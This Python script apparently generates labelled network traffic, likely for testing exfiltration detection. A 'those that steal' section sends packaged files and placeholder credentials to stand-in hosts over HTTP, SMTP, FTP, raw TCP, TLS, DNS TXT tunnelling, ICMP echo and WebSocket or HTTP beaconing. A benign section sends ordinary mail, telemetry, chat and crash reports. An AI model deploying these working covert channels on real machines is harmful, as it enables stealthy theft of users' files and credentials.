"""The programs on the victim's side that need more than one line of shell. Usage: act.py WHAT [ARGUMENT...]."""

import base64
import ftplib
import gzip
import http.client
import json
import logging
import logging.handlers
import os
import random
import smtplib
import socket
import ssl
import struct
import sys
import time
import urllib.parse
from email.message import EmailMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

import loot

# ---- those that steal


def grab():
    """Asks for its public address, then posts a ZIP."""
    import requests

    address = requests.get("http://ip.lookup.example/ip", timeout=10).text
    name = f"{loot.USER}@{loot.HOST}_{address}.zip"
    files = {"file": (name, loot.package(), "application/zip")}
    requests.post("http://203.0.113.41/api/send", files=files, data={"ip": address, "count": "12"}, timeout=20)


def report_mail():
    """Mails a list of credentials to the mailbox that it writes from."""
    rows = "".join(f"<b>URL:</b> https://shop{n}.example/login<br><b>Username:</b> erika{n}@mail.example<br>"
                   f"<b>Password:</b> example-password-{n}<br><b>Application:</b> Chrome<br><hr>" for n in range(12))
    text = MIMEText(f"<html>Time: 01/02/2030 10:00:00<br>User Name: {loot.USER}<br>Computer Name: {loot.HOST}<br>"
                    f"OSFullName: Microsoft Windows 10 Pro<br>CPU: Example CPU<br>RAM: 8192 MB<br><hr>{rows}</html>", "html", "utf-8")
    text["From"] = text["To"] = "box@drop.example"
    text["Subject"] = f"PW_{loot.USER}/{loot.HOST}"
    with smtplib.SMTP("mail.drop.example", 587, local_hostname=loot.HOST) as server:
        server.ehlo()
        server.user, server.password = "box@drop.example", "example-password"
        server.auth("LOGIN", server.auth_login)
        server.sendmail("box@drop.example", ["box@drop.example"], text.as_string())


def store():
    """Stores a list and a ZIP by FTP, and does nothing else there."""
    import io

    moment = time.strftime("%Y_%m_%d_%H_%M_%S")
    with ftplib.FTP("files.drop.example", "erika", "example-password") as server:
        rows = "".join(f"URL: https://shop{n}.example/<br>Username: erika{n}<br>Password: example-password-{n}<br><hr>"
                       for n in range(12))
        page = f"<html>User Name: {loot.USER}<br>Computer Name: {loot.HOST}<br><hr>{rows}</html>"
        server.storbinary(f"STOR PW_{loot.USER}-{loot.HOST}_{moment}.html", io.BytesIO(page.encode()))
        server.storbinary(f"STOR CO_{loot.USER}-{loot.HOST}_{moment}.zip", io.BytesIO(loot.package()))


def raw(address, port, form):
    """A length of four bytes, then a packed package, and nothing before."""
    data = loot.package() if form == "zip" else loot.home()
    with socket.create_connection((address, int(port)), 10) as server:
        server.sendall(struct.pack("<I", len(data)) + data)
        server.recv(2)


def secret(address, port, size):
    """TLS without a name: short messages each 2 s, then much at once."""
    trust = ssl._create_unverified_context()
    with trust.wrap_socket(socket.create_connection((address, int(port)), 10)) as server:
        server.send(os.urandom(90))
        server.recv(100)
        for _ in range(30):
            time.sleep(2)
            server.send(b"ping" + os.urandom(28))
            server.recv(100)
        server.sendall(random.randbytes(int(size)))
        time.sleep(2)


def as_json():
    """A ZIP as a string in JSON."""
    import urllib.request

    data = base64.b64encode(loot.package()).decode()
    said = {"id": "00000000111122223333", "user": loot.USER, "host": loot.HOST, "os": "Windows 10", "data": data}
    request = urllib.request.Request("http://sync.static.example/v1/sync", json.dumps(said).encode(),
                                     {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(request, timeout=20).read()


def name_tunnel():
    """Three hundred questions for TXT, whose names carry data."""
    box = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    box.settimeout(2)
    data = gzip.compress(loot.home())
    for n in range(300):
        piece = base64.b32encode(data[n * 60:n * 60 + 60] or random.randbytes(60)).decode().lower().strip("=")
        labels = [piece[:50], piece[50:], f"{n:04x}", "t1", "relay", "example"]
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels if label) + b"\0"
        box.sendto(struct.pack(">6H", n + 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1), ("192.0.2.1", 53))
        box.recv(4096)
        time.sleep(0.05)


def poll(address):
    """Asks for work each 2 s without naming itself, and introduces the machine once."""
    def ask(method, path, body=None, kind=None):
        link = http.client.HTTPConnection(address, timeout=10)
        link.putrequest(method, path, skip_accept_encoding=True)
        if body is not None:
            link.putheader("Content-Type", kind)
            link.putheader("Content-Length", str(len(body)))
        link.endheaders(body)
        link.getresponse().read()
        link.close()

    form = {"hwid": "00000000-1111-2222-3333-444444444444", "user": loot.USER, "pc": loot.HOST, "os": "Windows 10 Pro",
            "arch": "x64", "av": "Example Defender", "cpu": "Example CPU", "ram": "8192", "build": "b1"}
    ask("POST", "/join", urllib.parse.urlencode(form).encode(), "application/x-www-form-urlencoded")
    for _ in range(30):
        ask("GET", "/task?id=00000000111122223333")
        time.sleep(1.9)


def echo(address, form):
    """Sends a package, plain or encrypted, inside echo requests that the kernel of the other side answers."""
    box = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    data = loot.package()
    if form == "coded":
        data = bytes(a ^ b for a, b in zip(data, os.urandom(len(data))))
    for n, at in enumerate(range(0, len(data), 900)):
        head, piece = struct.pack(">2H", 7, n), data[at:at + 900]
        whole = b"\x08\0\0\0" + head + piece + b"\0" * (len(piece) % 2)
        total = sum(struct.unpack(f">{len(whole) // 2}H", whole))
        total = (total & 0xFFFF) + (total >> 16)
        check = ~(total + (total >> 16)) & 0xFFFF
        box.sendto(b"\x08\0" + struct.pack(">H", check) + head + piece, (address, 0))
        time.sleep(0.2)


def socket_loot(address):
    """A WebSocket to a bare address: introduces the machine, sends a package, then keeps in touch."""
    import asyncio

    import websockets

    async def run():
        async with websockets.connect(address, compression=None, user_agent_header=None) as link:
            await link.send(json.dumps({"type": "hello", "hwid": "00000000-1111-2222-3333-444444444444",
                                        "user": loot.USER, "pc": loot.HOST, "os": "Windows 10 Pro"}))
            await link.recv()
            package = base64.b64encode(loot.package()).decode()
            await link.send(json.dumps({"type": "log", "name": f"{loot.HOST}.zip", "data": package}))
            await link.recv()
            for _ in range(15):
                await asyncio.sleep(2)
                await link.send(json.dumps({"type": "ping"}))
                await link.recv()

    asyncio.run(run())


# ---- those that do not


def letter():
    """A mail as people send it, with a document, over STARTTLS."""
    text = EmailMessage()
    text["From"], text["To"] = "Erika Example <erika@office.example>", "Max Example <max@partner.example>"
    text["Subject"], text["Date"] = "Minutes", time.strftime("%a, %d %b %Y %H:%M:%S +0000", time.gmtime())
    text["Message-ID"], text["User-Agent"] = "<invented.1@office.example>", "Example Mail 1.0"
    text.set_content("Dear Max,\n\nhere are the minutes.\n\nErika\n")
    text.add_attachment(b"%PDF-1.7\n" + random.randbytes(40_000), maintype="application", subtype="pdf", filename="minutes.pdf")
    trust = ssl.create_default_context(cafile="ca.pem")
    with smtplib.SMTP("mail.office.example", 587) as server:
        server.starttls(context=trust)
        server.login("erika@office.example", "example-password")
        server.send_message(text)


def session():
    """Somebody's FTP: looks around, fetches, stores a report."""
    import io

    with ftplib.FTP("files.office.example", "erika", "example-password") as server:
        server.retrlines("LIST", lambda _: None)
        server.cwd("reports")
        server.retrlines("LIST", lambda _: None)
        server.retrbinary("RETR january.csv", lambda _: None)
        server.storbinary("STOR february.csv", io.BytesIO(b"day,sum\n" + b"2030-02-01,10\n" * 500))
        server.retrlines("LIST", lambda _: None)


def telemetry():
    """Figures of a service each 2 s."""
    import requests

    link = requests.Session()
    for n in range(30):
        figures = {"service": "shop-frontend", "version": "1.4.2", "requests": 100 + n, "errors": n % 3,
                   "latency_ms": {"p50": 12.5, "p99": 80 + n / 10}, "heap_mb": 210 + n % 7}
        link.post("http://telemetry.vendor.example/v1/metrics", json=figures, timeout=10)
        time.sleep(1.95)


def talk():
    """A chat over WebSocket."""
    import asyncio

    import websockets

    async def run():
        async with websockets.connect("ws://chat.vendor.example:8080/room") as link:
            for n in range(25):
                await link.send(json.dumps({"from": loot.USER, "text": "Hello, " * (1 + n % 5)}))
                await link.recv()
                await asyncio.sleep(0.5 + random.random() * 2)

    asyncio.run(run())


def ship_logs():
    """Python's own handler for logs over TCP: a length of four bytes, then a pickled record."""
    log = logging.getLogger("shop")
    log.setLevel(logging.INFO)
    handler = logging.handlers.SocketHandler("logs.office.example", 9020)
    log.addHandler(handler)

    def shop(record):
        """The record is that of a shop, not of this file in somebody's folder."""
        record.pathname, record.filename, record.module = "/srv/shop/pack.py", "pack.py", "pack"
        return True

    handler.addFilter(shop)
    for n in range(60):
        log.info("order %d packed in %d ms", n, 20 + n % 9)
        time.sleep(0.5)


def crash():
    """A report of a crash, with a packed dump and what the maker wants to know of the machine."""
    import requests

    dump = gzip.compress(b"MDMP" + bytes(4000) + random.randbytes(30_000))
    said = {"product": "Example Editor", "version": "3.2.1", "os": "Windows 10 Pro", "arch": "x64", "cpu_count": "4",
            "memory_mb": "8192", "guid": "00000000-1111-2222-3333-444444444444", "reason": "EXCEPTION_ACCESS_VIOLATION"}
    requests.post("http://crash.vendor.example/submit", data=said, timeout=20, headers={"User-Agent": "ExampleEditor/3.2.1"},
                  files={"upload_file_minidump": ("0001.dmp.gz", dump, "application/octet-stream")})


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
